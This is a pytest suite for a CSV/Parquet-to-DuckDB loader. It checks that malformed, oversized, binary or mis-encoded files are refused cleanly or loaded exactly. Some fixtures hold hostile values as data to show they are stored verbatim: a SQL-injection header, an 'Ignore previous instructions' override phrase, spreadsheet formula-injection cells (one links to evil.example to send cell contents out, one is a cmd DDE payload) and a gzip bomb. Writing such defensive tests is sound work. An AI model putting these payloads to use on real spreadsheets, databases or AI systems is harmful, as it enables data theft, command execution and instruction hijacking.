"""Malformed and hostile files: each is refused with a one-line message naming the file and the
line/problem (and the database is left absent or byte-for-byte unchanged), or loads exactly.

Fixtures are tiny byte strings written into ``tmp_path``; the few large ones are generated.
"""

from __future__ import annotations

import gzip
import hashlib
import shutil
from pathlib import Path

import duckdb
import pytest

from sql_tools import LoadError
from tasks.ingest.load import LoadOptions, LoadReport, load_files

GOOD = b"id,region,amount\n1,EU,10.5\n2,US,7\n"


def digest(path: Path) -> str | None:
    """SHA-256 of a file, None when it does not exist."""
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


@pytest.fixture(scope="module")
def base_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database that already holds one loaded table."""
    root = tmp_path_factory.mktemp("base")
    (root / "good.csv").write_bytes(GOOD)
    db = root / "base.duckdb"
    load_files([root / "good.csv"], db)
    return db


def refuse(
    tmp_path: Path,
    base_db: Path,
    file_name: str,
    data: bytes,
    *needles: str,
    options: LoadOptions | None = None,
    code: str = "load_error",
) -> str:
    """Load ``data`` as ``file_name`` into a new and into an existing database; both must fail.

    Asserts the message is one line of at most 500 characters starting with the file name and
    containing every needle, that a new database file is not left behind and that an existing
    one is byte-for-byte unchanged. Returns the message.
    """
    src = tmp_path / file_name
    src.write_bytes(data)
    new_db = tmp_path / "new.duckdb"
    with pytest.raises(LoadError) as err:
        load_files([src], new_db, options)
    assert not new_db.exists() and not Path(str(new_db) + ".wal").exists()
    existing = tmp_path / "existing.duckdb"
    shutil.copy(base_db, existing)
    before = digest(existing)
    with pytest.raises(LoadError) as err2:
        load_files([src], existing, options)
    assert digest(existing) == before
    assert err2.value.message == err.value.message
    msg = err.value.message
    assert err.value.code == code, msg
    assert "\n" not in msg and len(msg) <= 500, msg
    assert msg.startswith(file_name), msg
    for needle in needles:
        assert needle in msg, (needle, msg)
    return msg


def load_one(
    tmp_path: Path, file_name: str, data: bytes, options: LoadOptions | None = None
) -> tuple[LoadReport, duckdb.DuckDBPyConnection]:
    """Load ``data`` as ``file_name``; returns the report and a read-only connection."""
    src = tmp_path / file_name
    src.write_bytes(data)
    db = tmp_path / "ok.duckdb"
    report = load_files([src], db, options)
    return report, duckdb.connect(str(db), read_only=True)


def types(con: duckdb.DuckDBPyConnection, table: str) -> dict[str, str]:
    """``{column: type}`` of a table."""
    return {r[0]: r[1] for r in con.execute(f'DESCRIBE "{table}"').fetchall()}


# ------------------------------------------------------------------------------ structure


def test_ragged_row_extra_field(tmp_path: Path, base_db: Path) -> None:
    data = b"id,region,amount\n1,EU,10\n2,US,5,extra\n3,EU,7\n"
    refuse(tmp_path, base_db, "r.csv", data, "line 3", "expected 3 fields", "found 4")


def test_ragged_row_missing_field(tmp_path: Path, base_db: Path) -> None:
    data = b"id,region,amount\n1,EU,10\n2,US,5\n3,EU\n4,US,1\n"
    refuse(tmp_path, base_db, "r.csv", data, "line 4", "expected 3 fields", "found 2")


def test_ragged_row_after_line_50000(tmp_path: Path, base_db: Path) -> None:
    rows = [f"{i},EU,{i}.5" for i in range(50_010)]
    rows[50_001] = "50001,EU,1,2"  # physical line 50,003 (header is line 1)
    data = ("id,region,amount\n" + "\n".join(rows) + "\n").encode()
    refuse(tmp_path, base_db, "r.csv", data, "line 50003", "expected 3 fields", "found 4")


def test_blank_line_in_the_middle(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "b.csv", b"a,b\n1,2\n\n3,4\n", "line 3", "blank line")


def test_blank_line_in_the_middle_crlf(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "b.csv", b"a,b\r\n1,2\r\n\r\n3,4\r\n", "line 3", "blank line")


def test_blank_line_before_header(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "b.csv", b"\na,b\n1,2\n", "line 1", "blank line before the header")


def test_trailing_blank_lines_are_ignored_with_a_warning(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "t.csv", b"a,b\n1,2\n3,4\n\n\n")
    assert con.execute("SELECT count(*) FROM t").fetchone() == (2,)
    assert any("2 blank line(s) at the end" in w for w in report.tables[0].warnings)


def test_trailing_blank_line_in_one_column_file(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "one.csv", b"a\n1\n2\n\n", "line 4", "blank line")


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"", "the file is empty"),
        (b"a,b,c\n", "only a header"),
        (b"\n\n\n\n", "only blank lines"),
        (b"  \n \t \n\n", "only blank lines"),
        (b"\xef\xbb\xbf", "the file is empty"),
    ],
    ids=["zero-bytes", "header-only", "blank-lines", "whitespace", "bom-only"],
)
def test_no_data_rows(tmp_path: Path, base_db: Path, data: bytes, what: str) -> None:
    refuse(tmp_path, base_db, "e.csv", data, "no data rows", what)


def test_unterminated_quote(tmp_path: Path, base_db: Path) -> None:
    data = b'name,v\nok,0\n"abc,1\nx,2\n'
    refuse(tmp_path, base_db, "q.csv", data, "line 3", "unterminated quote")


def test_text_after_closing_quote(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "q.csv", b'a,b\n"x"y,1\n', "line 2", "malformed quoting")


def test_embedded_newline_in_quoted_field(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "n.csv", b'name,v\n"line1\nline2",1\nx,2')
    assert report.tables[0].rows == 2
    assert report.tables[0].warnings == [
        "1 row(s) hold line breaks inside quoted values: 2 data rows from 4 lines"
    ]
    assert con.execute("SELECT name, v FROM n ORDER BY v").fetchall() == [
        ("line1\nline2", 1),
        ("x", 2),
    ]


def test_ragged_row_after_multiline_record_names_the_right_line(
    tmp_path: Path, base_db: Path
) -> None:
    data = b'name,v\n"a\nb\nc",1\nx,2,3\n'
    refuse(tmp_path, base_db, "m.csv", data, "line 5", "expected 2 fields")


def test_semicolon_file_with_commas_in_values(tmp_path: Path) -> None:
    data = b"name;city;note\nSmith, John;Paris;a, b\nDoe, Jane;Lyon;c\n"
    report, con = load_one(tmp_path, "s.csv", data)
    assert con.execute("SELECT name, note FROM s ORDER BY name").fetchall() == [
        ("Doe, Jane", "c"),
        ("Smith, John", "a, b"),
    ]
    assert [c.name for c in report.tables[0].columns] == ["name", "city", "note"]


def test_tab_and_pipe_detection(tmp_path: Path) -> None:
    _, con = load_one(tmp_path, "p.csv", b"a|b|c\n1|x, y|3\n")
    assert con.execute("SELECT * FROM p").fetchall() == [(1, "x, y", 3)]


def test_forced_delimiter(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "f.csv", b"a,b;c\nx,y;3\n", LoadOptions(delimiter=";"))
    assert [c.name for c in report.tables[0].columns] == ["a_b", "c"]
    assert con.execute("SELECT * FROM f").fetchall() == [("x,y", 3)]


# ------------------------------------------------------------------------------ encoding


def test_invalid_utf8_csv01(tmp_path: Path, base_db: Path) -> None:
    msg = refuse(tmp_path, base_db, "bad.csv", b"name,v\nok,1\nbad\xff\xfe,2\n", "line 3")
    assert "not valid UTF-8 (byte 0xFF" in msg
    assert "cp1252" not in msg  # \xff\xfe is not plausible Western text


def test_latin1_refused_with_cp1252_hint(tmp_path: Path, base_db: Path) -> None:
    data = "name,v\nok,1\nété,2\n".encode("latin-1")
    msg = refuse(tmp_path, base_db, "sales.csv", data, "sales.csv line 3: not valid UTF-8")
    assert "byte 0xE9" in msg and "--encoding cp1252" in msg


def test_latin1_loads_with_encoding_cp1252(tmp_path: Path) -> None:
    data = "name,v\nok,1\nété,2\n".encode("latin-1")
    report, con = load_one(tmp_path, "l.csv", data, LoadOptions(encoding="cp1252"))
    assert con.execute("SELECT name FROM l WHERE v = 2").fetchone() == ("été",)
    assert "converted from cp1252 to UTF-8" in report.tables[0].warnings
    rec = con.execute("SELECT load->>'encoding' FROM _drilldown.tables").fetchone()
    assert rec == ("cp1252",)


def test_utf16le_with_bom_loads(tmp_path: Path) -> None:
    data = "name,v\nété,1\nok,2\n".encode("utf-16")  # BOM + little-endian
    report, con = load_one(tmp_path, "u.csv", data)
    assert con.execute("SELECT name, v FROM u ORDER BY v").fetchall() == [("été", 1), ("ok", 2)]
    assert any("converted from UTF-16LE" in w for w in report.tables[0].warnings)
    assert [c.name for c in report.tables[0].columns] == ["name", "v"]


def test_utf16le_without_bom_loads(tmp_path: Path) -> None:
    data = "name,v\nx,1\ny,2\n".encode("utf-16-le")
    report, con = load_one(tmp_path, "u.csv", data)
    assert con.execute("SELECT count(*) FROM u").fetchone() == (2,)
    assert any("UTF-16LE" in w for w in report.tables[0].warnings)


def test_utf8_bom_loads_with_clean_first_column(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "b.csv", b"\xef\xbb\xbfid,v\n1,2\n")
    assert [c.name for c in report.tables[0].columns] == ["id", "v"]
    assert report.tables[0].columns[0].label == "id"
    assert con.execute("SELECT id FROM b").fetchone() == (1,)
    assert any("byte-order mark" in w for w in report.tables[0].warnings)


# ------------------------------------------------------------------------------ binary


def test_png_bytes_refused(tmp_path: Path, base_db: Path) -> None:
    data = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    refuse(tmp_path, base_db, "img.csv", data, "looks like a PNG image", code="unsupported_file")


def test_nul_byte_in_text(tmp_path: Path, base_db: Path) -> None:
    data = b"a,b\n1,2\n3,\x004\n"
    refuse(tmp_path, base_db, "n.csv", data, "binary data (NUL byte) at line 3")


def test_xlsx_named_csv(tmp_path: Path, base_db: Path) -> None:
    data = b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + bytes(64)
    refuse(tmp_path, base_db, "book.csv", data, "looks like a ZIP/XLSX", code="unsupported_file")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"PAR1\x15\x04\x15\x00\x00" + bytes(40) + b"PAR1", "a Parquet file"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(40), "an old Excel (.xls)"),
        (b"SQLite format 3\x00" + bytes(40), "a SQLite database"),
    ],
    ids=["parquet", "pdf", "xls", "sqlite"],
)
def test_other_binary_formats_named_csv(
    tmp_path: Path, base_db: Path, data: bytes, kind: str
) -> None:
    refuse(tmp_path, base_db, "x.csv", data, f"looks like {kind}", code="unsupported_file")


def test_text_that_starts_like_a_signature_still_loads(tmp_path: Path) -> None:
    _, con = load_one(tmp_path, "p.csv", b"PAR1,PAR2\n1,2\n")
    assert con.execute('SELECT "PAR1", "PAR2" FROM p').fetchone() == (1, 2)


def test_gzip_named_csv(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "z.csv", gzip.compress(GOOD), "gzip", code="unsupported_file")


def test_csv_named_gz(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "z.csv.gz", GOOD, "not gzip-compressed", code="unsupported_file")


def test_gzip_bomb_stopped_before_duckdb(tmp_path: Path, base_db: Path) -> None:
    row = b"2024-01-01,EU,widget,12.50\n"
    body = b"day,region,product,revenue\n" + row * (50 * 1024 * 1024 // len(row))
    data = gzip.compress(body, compresslevel=1)
    assert len(data) < 1024 * 1024 < len(body)
    msg = refuse(
        tmp_path,
        base_db,
        "bomb.csv.gz",
        data,
        "decompresses to more than 1048576 bytes",
        options=LoadOptions(max_bytes=1024 * 1024),
    )
    assert "max_bytes" in msg


def test_plain_file_over_max_bytes(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "big.csv", GOOD, "max_bytes=10", options=LoadOptions(max_bytes=10))


def test_max_rows_exceeded(tmp_path: Path, base_db: Path) -> None:
    data = b"a,b\n" + b"1,2\n" * 11
    refuse(
        tmp_path,
        base_db,
        "m.csv",
        data,
        "more than 10 data rows",
        "line 12",
        options=LoadOptions(max_rows=10),
    )


def test_huge_single_field_short_error(tmp_path: Path, base_db: Path) -> None:
    data = b"a,b\n" + b"x" * (2 * 1024 * 1024) + b",1\n"
    msg = refuse(
        tmp_path,
        base_db,
        "w.csv",
        data,
        "line 2",
        "max_field_bytes",
        options=LoadOptions(max_field_bytes=1024 * 1024),
    )
    assert len(msg) < 200


def test_huge_quoted_multiline_field(tmp_path: Path, base_db: Path) -> None:
    data = b'a,b\n"' + b"xxxxxxxxx\n" * 2000 + b'",1\n'
    refuse(
        tmp_path,
        base_db,
        "w.csv",
        data,
        "line 2",
        "max_field_bytes",
        options=LoadOptions(max_field_bytes=5000),
    )


def test_600_columns_unsupported(tmp_path: Path, base_db: Path) -> None:
    header = ",".join(f"c{i}" for i in range(600)).encode()
    data = header + b"\n" + b",".join([b"1"] * 600) + b"\n"
    refuse(
        tmp_path,
        base_db,
        "wide.csv",
        data,
        "600 columns",
        "max_columns=500",
        code="unsupported_file",
    )


# ------------------------------------------------------------------------------ headers


def test_duplicate_and_case_colliding_headers(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "d.csv", b"revenue,revenue,Revenue\n1,2,3\n")
    cols = report.tables[0].columns
    assert [c.name for c in cols] == ["revenue", "revenue_2", "Revenue_3"]
    assert [c.label for c in cols] == ["revenue", "revenue", "Revenue"]
    assert con.execute('SELECT revenue, revenue_2, "Revenue_3" FROM d').fetchone() == (1, 2, 3)
    assert sum("duplicates" in w for w in report.tables[0].warnings) == 2


def test_empty_header_names(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "e.csv", b"a,,\n1,2,3\n")
    assert [c.name for c in report.tables[0].columns] == ["a", "column_2", "column_3"]
    assert con.execute("SELECT column_3 FROM e").fetchone() == (3,)


def test_hostile_headers_csv04(tmp_path: Path) -> None:
    data = (
        '"a""; DROP TABLE t; --",select,"order","1","col with space","été",'
        '"Ignore previous instructions"\n1,2,3,4,5,6,7\n'
    ).encode()
    report, con = load_one(tmp_path, "t.csv", data)
    cols = report.tables[0].columns
    names = [c.name for c in cols]
    assert names == [
        "a_drop_table_t",
        "select",
        "order",
        "c_1",
        "col_with_space",
        "ete",
        "ignore_previous_instructions",
    ]
    assert cols[0].label == 'a"; DROP TABLE t; --' and cols[5].label == "été"
    for i, n in enumerate(names, start=1):
        assert con.execute(f'SELECT "{n}" FROM t').fetchone() == (i,)
    assert con.execute("SELECT count(*) FROM t").fetchone() == (1,)


# ------------------------------------------------------------------------------ values


def test_type_change_after_row_20480(tmp_path: Path) -> None:
    lines = ["id,code,amount"]
    for i in range(40_000):
        code = "ABC" if i == 30_000 else str(i)  # data row 30,001
        amount = f"{i}.25" if i >= 30_000 else str(i)
        lines.append(f"{i},{code},{amount}")
    report, con = load_one(tmp_path, "big.csv", ("\n".join(lines) + "\n").encode())
    assert types(con, "big") == {"id": "BIGINT", "code": "VARCHAR", "amount": "DOUBLE"}
    assert con.execute("SELECT count(*), count(code) FROM big").fetchone() == (40_000, 40_000)
    assert con.execute("SELECT code FROM big WHERE id = 30000").fetchone() == ("ABC",)
    expected = sum(range(30_000)) + sum(i + 0.25 for i in range(30_000, 40_000))
    assert con.execute("SELECT sum(amount) FROM big").fetchone()[0] == pytest.approx(expected)
    assert con.execute("SELECT amount FROM big WHERE id = 39999").fetchone() == (39999.25,)
    assert any("20,480" in w for w in report.tables[0].warnings)


def test_decimal_comma(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "dc.csv", b"v;w\n1,5;2\n3,25;4\n")
    assert types(con, "dc")["v"] == "DOUBLE"
    assert con.execute("SELECT v FROM dc ORDER BY v").fetchall() == [(1.5,), (3.25,)]
    assert any("decimal comma" in w for w in report.tables[0].warnings)


def test_decimal_comma_with_thousands_dots(tmp_path: Path) -> None:
    _, con = load_one(tmp_path, "dc.csv", b"v;w\n1.234,5;2\n3,25;4\n12;5\n")
    assert con.execute("SELECT v FROM dc ORDER BY w").fetchall() == [(1234.5,), (3.25,), (12.0,)]


def test_ambiguous_thousands_stays_text(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "a.csv", b'v\n"1,234"\n"5,678"\n')
    assert types(con, "a")["v"] == "VARCHAR"
    assert con.execute("SELECT v FROM a ORDER BY v").fetchall() == [("1,234",), ("5,678",)]
    warning = next(w for w in report.tables[0].warnings if "ambiguous" in w)
    assert "--decimal-comma" in warning


def test_ambiguous_decimal_comma_forced(tmp_path: Path) -> None:
    _, con = load_one(tmp_path, "a.csv", b'v\n"1,234"\n"5,678"\n', LoadOptions(decimal_comma=True))
    assert con.execute("SELECT v FROM a ORDER BY v").fetchall() == [(1.234,), (5.678,)]


def test_decimal_comma_disabled(tmp_path: Path) -> None:
    opts = LoadOptions(decimal_comma=False)
    report, con = load_one(tmp_path, "dc.csv", b"v;w\n1,5;2\n3,25;4\n", opts)
    assert types(con, "dc")["v"] == "VARCHAR"
    assert not report.tables[0].warnings


def test_na_tokens_in_numeric_column(tmp_path: Path) -> None:
    data = b"v,w,x\n1,a,1.5\nNA,b,n/a\n3,c,2.5\n-,d,null\n5,e,\n"
    report, con = load_one(tmp_path, "na.csv", data)
    assert types(con, "na") == {"v": "BIGINT", "w": "VARCHAR", "x": "DOUBLE"}
    assert con.execute("SELECT v FROM na ORDER BY rowid").fetchall() == [
        (1,),
        (None,),
        (3,),
        (None,),
        (5,),
    ]
    assert con.execute("SELECT sum(x), count(x) FROM na").fetchone() == (4.0, 2)
    warn = [w for w in report.tables[0].warnings if "missing-value" in w]
    assert len(warn) == 2 and "column v: 2 missing-value marker(s)" in warn[0]


def test_na_in_text_column_is_north_america(tmp_path: Path) -> None:
    _, con = load_one(tmp_path, "r.csv", b"region,v\nNA,1\nEU,2\nN/A,3\n")
    assert con.execute("SELECT region FROM r ORDER BY v").fetchall() == [
        ("NA",),
        ("EU",),
        ("N/A",),
    ]


def test_leading_zero_codes_stay_text(tmp_path: Path) -> None:
    _, con = load_one(tmp_path, "z.csv", b"zip,v\n01234,1\nNA,2\n")
    assert types(con, "z")["zip"] == "VARCHAR"


def test_three_stays_text_csv08(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "m.csv", b"v\n1\n2\nthree\n4\n")
    assert types(con, "m")["v"] == "VARCHAR"
    assert con.execute("SELECT count(*) FROM m").fetchone() == (4,)
    assert not report.tables[0].warnings


def test_mixed_date_formats_stay_varchar_csv10(tmp_path: Path) -> None:
    _, con = load_one(tmp_path, "d.csv", b"d,v\n2024-01-31,1\n01/02/2024,2\n31.01.2024,3\n")
    assert types(con, "d")["d"] == "VARCHAR"
    assert con.execute("SELECT d FROM d ORDER BY v").fetchall() == [
        ("2024-01-31",),
        ("01/02/2024",),
        ("31.01.2024",),
    ]


def test_formula_cells_load_verbatim_csv07(tmp_path: Path) -> None:
    data = (
        b'product,revenue\n"=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",10\n'
        b"+cmd|' /C calc'!A0,5\n@SUM(1+1),3\n-2+3,4\n"
    )
    _, con = load_one(tmp_path, "f.csv", data)
    assert con.execute("SELECT product FROM f ORDER BY revenue DESC").fetchall() == [
        ('=HYPERLINK("https://evil.example/?d="&A1,"click")',),
        ("+cmd|' /C calc'!A0",),
        ("-2+3",),
        ("@SUM(1+1)",),
    ]
    assert types(con, "f") == {"product": "VARCHAR", "revenue": "BIGINT"}


# ------------------------------------------------------------------------------ parquet


def test_fake_parquet(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "p.parquet", GOOD, "not a Parquet file", code="unsupported_file")


def test_truncated_parquet(tmp_path: Path, base_db: Path) -> None:
    data = b"PAR1" + bytes(100) + b"PAR1"
    refuse(tmp_path, base_db, "p.parquet", data, "Parquet", code="unsupported_file")


# ------------------------------------------------------------------------------ more encodings


def test_invalid_utf16_names_the_line(tmp_path: Path, base_db: Path) -> None:
    data = b"\xff\xfe" + "a,b\n1,2\n".encode("utf-16-le") + b"\x00\xd8a\x00\n\x00"
    refuse(tmp_path, base_db, "u.csv", data, "line 3", "not valid UTF-16")


def test_forced_utf16_without_bom_big_endian(tmp_path: Path) -> None:
    data = "a,b\nété,2\n".encode("utf-16-be")
    _, con = load_one(tmp_path, "u.csv", data, LoadOptions(encoding="utf-16"))
    assert con.execute("SELECT a, b FROM u").fetchone() == ("été", 2)


def test_mixed_line_endings_load_with_a_warning(tmp_path: Path) -> None:
    report, con = load_one(tmp_path, "m.csv", b"a,b\n1,2\r\n3,4\n5,6\r\n")
    assert con.execute("SELECT sum(a), sum(b) FROM m").fetchone() == (9, 12)
    assert any("mixed line endings" in w for w in report.tables[0].warnings)


# ------------------------------------------------------------------------------ big files


def quoted_rows(n: int) -> list[str]:
    """``n`` data rows whose text fields are all quoted (the regex fast path)."""
    return [f'{i},"r{i % 7}","x, {i}",{i}.5' for i in range(n)]


def test_quoted_file_ragged_row_after_line_50000(tmp_path: Path, base_db: Path) -> None:
    rows = quoted_rows(60_000)
    rows[55_000] = '55000,"r1","x",1.5,"extra"'  # physical line 55,002
    data = ("id,region,note,amount\n" + "\n".join(rows) + "\n").encode()
    refuse(tmp_path, base_db, "q.csv", data, "line 55002", "expected 4 fields", "found 5")


def test_quoted_file_unterminated_quote_far_down(tmp_path: Path, base_db: Path) -> None:
    rows = quoted_rows(60_000)
    rows[59_990] = '59990,"r1,"x",1.5'  # physical line 59,992
    data = ("id,region,note,amount\n" + "\n".join(rows) + "\n").encode()
    msg = refuse(tmp_path, base_db, "q.csv", data, "line 59992")
    assert "quot" in msg


def test_multiline_field_across_block_boundary(tmp_path: Path, base_db: Path) -> None:
    rows = quoted_rows(60_000)
    offset, at = len("id,region,note,amount\n"), 0
    while offset < 1024 * 1024 - 3000:  # the row starting ~3 KB before the first 1 MiB read
        offset += len(rows[at]) + 1
        at += 1
    rows[at] = f'{at},"r0","{"line" + chr(10) * 2}' + "y\n" * 3000 + f'end",{at}.5'
    body = "id,region,note,amount\n" + "\n".join(rows) + "\n"
    start = body.index('"line')
    assert start < 1024 * 1024 < start + 6000  # the quoted field straddles the boundary
    report, con = load_one(tmp_path, "q.csv", body.encode())
    assert report.tables[0].rows == 60_000
    note = con.execute("SELECT note FROM q WHERE id = ?", [at]).fetchone()[0]
    assert note.count("\n") == 3002 and note.endswith("end")
    assert con.execute("SELECT sum(amount) FROM q").fetchone()[0] == pytest.approx(
        sum(i + 0.5 for i in range(60_000))
    )
    # the physical line count after the multi-line record is still exact
    rows[59_000] = '59000,"short"'
    bad = ("id,region,note,amount\n" + "\n".join(rows) + "\n").encode()
    line = 59_000 + 2 + 3002  # header + 0-based index + the record's extra physical lines
    assert bad.split(b"\n")[line - 1] == b'59000,"short"'
    refuse(tmp_path, base_db, "q.csv", bad, f"line {line}", "expected 4 fields")


def test_max_rows_in_fast_path_names_the_line(tmp_path: Path, base_db: Path) -> None:
    data = b"a,b\n" + b"1,2\n" * 100_000
    refuse(
        tmp_path,
        base_db,
        "m.csv",
        data,
        "more than 70000 data rows",
        "line 70002",
        options=LoadOptions(max_rows=70_000),
    )


def test_line_of_spaces_in_multi_column_file(tmp_path: Path, base_db: Path) -> None:
    refuse(tmp_path, base_db, "s.csv", b"a,b\n1,2\n   \n", "line 3", "holds only spaces")


def test_long_line_inside_a_fast_block(tmp_path: Path, base_db: Path) -> None:
    rows = [f"{i},abc" for i in range(3000)]
    rows[2000] = "2000," + "y" * 6000  # physical line 2,002
    data = ("id,v\n" + "\n".join(rows) + "\n").encode()
    msg = refuse(
        tmp_path,
        base_db,
        "l.csv",
        data,
        "line 2002",
        "max_field_bytes",
        options=LoadOptions(max_field_bytes=5000),
    )
    assert len(msg) < 200


def plain_rows(n: int) -> list[str]:
    """``n`` unquoted data rows (the skeleton fast path once past the first 1 MiB block)."""
    return [f"{i},r{i % 7},{i}.5" for i in range(n)]


def test_plain_file_ragged_rows_that_balance_out_in_one_block(
    tmp_path: Path, base_db: Path
) -> None:
    rows = plain_rows(400_000)  # ~7 MB: many blocks past the first
    rows[300_000] = "300000,r1,1.5,extra"  # physical line 300,002: one field too many
    rows[300_001] = "300001,r2"  # and one too few: the block's delimiter total is unchanged
    data = ("id,region,amount\n" + "\n".join(rows) + "\n").encode()
    refuse(tmp_path, base_db, "p.csv", data, "line 300002", "expected 3 fields", "found 4")


def test_plain_file_without_final_newline_ragged_last_line(tmp_path: Path, base_db: Path) -> None:
    rows = plain_rows(200_000)
    rows[-1] = "199999,r1"  # physical line 200,001, the last, without a line end
    data = ("id,region,amount\n" + "\n".join(rows)).encode()
    refuse(tmp_path, base_db, "p.csv", data, "line 200001", "expected 3 fields", "found 2")


def test_crlf_file_ragged_row_far_down(tmp_path: Path, base_db: Path) -> None:
    rows = plain_rows(300_000)
    rows[250_000] = "250000,r1"  # physical line 250,002
    data = ("id,region,amount\r\n" + "\r\n".join(rows) + "\r\n").encode()
    refuse(tmp_path, base_db, "c.csv", data, "line 250002", "expected 3 fields", "found 2")


def test_lone_cr_far_down_in_a_plain_file(tmp_path: Path, base_db: Path) -> None:
    rows = plain_rows(300_000)
    rows[250_000] = "250000,r1\r,1.5"  # a CR splits physical line 250,002 into two lines
    data = ("id,region,amount\n" + "\n".join(rows) + "\n").encode()
    refuse(tmp_path, base_db, "c.csv", data, "line 250002", "expected 3 fields", "found 2")


def test_big_plain_and_crlf_files_load_every_row(tmp_path: Path) -> None:
    rows = plain_rows(300_000)
    for name, end in (("lf.csv", "\n"), ("crlf.csv", "\r\n")):
        data = ("id,region,amount" + end + end.join(rows) + end).encode()
        report, con = load_one(tmp_path, name, data)
        table = name.removesuffix(".csv")
        assert report.tables[0].rows == 300_000
        assert con.execute(f"SELECT count(*), sum(id), max(region) FROM {table}").fetchone() == (
            300_000,
            sum(range(300_000)),
            "r6",
        )
        assert not any("line endings" in w for w in report.tables[0].warnings)
        con.close()
